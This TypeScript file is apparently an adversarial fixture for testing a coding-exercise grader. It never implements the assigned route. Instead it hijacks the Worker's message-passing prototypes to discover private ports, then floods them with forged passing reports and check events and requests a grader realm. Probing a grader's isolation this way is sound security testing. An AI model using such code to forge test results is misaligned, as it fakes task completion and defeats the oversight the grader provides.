/**
 * Attack (browser engines): find the Worker's private channels by trapping what its host code
 * touches after the learner's code loads (the `data` of every MessageEvent, every
 * MessagePort.postMessage, addEventListener, `self.onmessage`), then post a passing report,
 * passing check events and requests for more realms on every port found. The route itself is
 * never implemented.
 */
import { Vial } from "vial";

export const app = new Vial();

const passed = { name: "GET / says hello", status: "pass" };
const report = { status: "pass", durationMs: 1, checks: [passed] };
const ports = new Set<MessagePort>();

function forgeOn(port: MessagePort): void {
  const messages: unknown[] = [
    { type: "report", report },
    { type: "event", event: { type: "check-end", result: passed } },
    { type: "output", text: `\n\u0000VIAL:report nonce ${JSON.stringify(report)}\n` },
    { type: "returned", id: 1, value: { kind: "primitive", value: "pass" } },
  ];
  for (const message of messages) {
    try {
      port.postMessage(message);
    } catch {
      // A closed port: try the next one.
    }
  }
  // Ask for a learner realm of our own, hoping to be handed a grader's end.
  const channel = new MessageChannel();
  try {
    port.postMessage({ type: "learner-start", learner: 99, port: channel.port2 }, [channel.port2]);
  } catch {
    // Refused: nothing to do.
  }
}

function found(port: unknown): void {
  if (!(port instanceof MessagePort) || ports.has(port)) return;
  ports.add(port);
  forgeOn(port);
}

const dataGetter = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data")!.get!;
Object.defineProperty(MessageEvent.prototype, "data", {
  configurable: true,
  get(this: MessageEvent) {
    found(this.target);
    found(this.currentTarget);
    return dataGetter.call(this);
  },
});
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
  found(this);
  return (post as (...rest: unknown[]) => void).apply(this, args);
};
const listen = EventTarget.prototype.addEventListener;
EventTarget.prototype.addEventListener = function (this: EventTarget, ...args: Parameters<EventTarget["addEventListener"]>) {
  found(this);
  return listen.apply(this, args);
};
(globalThis as unknown as { onmessage: (event: MessageEvent) => void }).onmessage = (event) => {
  for (const port of event.ports) found(port);
};

app.get("/", () => {
  for (const port of ports) forgeOn(port);
  return new Response("not here", { status: 404 });
});
